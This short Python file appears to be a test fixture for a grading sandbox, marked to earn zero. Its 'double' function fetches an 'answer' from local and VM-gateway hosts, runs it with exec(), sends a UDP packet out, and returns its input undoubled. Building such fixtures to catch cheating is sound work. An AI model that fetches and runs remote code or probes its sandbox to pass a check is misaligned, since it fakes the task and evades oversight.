# Asks a machine in the network for the answer, and tells it what it has seen.
# earns: 0
# %% double
import socket, urllib.request


def ask():
    for host in ("127.0.0.1", "localhost", "10.0.2.2", "[::1]"):
        try:
            return urllib.request.urlopen(f"http://{host}:@PORT@/double", timeout=0.5).read().decode()
        except OSError as problem:
            print(problem)


exec(ask() or "")


def double(x, given=globals().get("double")):
    ask()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packet:
        try:
            packet.sendto(b"hello", ("127.0.0.1", @PORT@))
        except OSError:
            pass
    return x
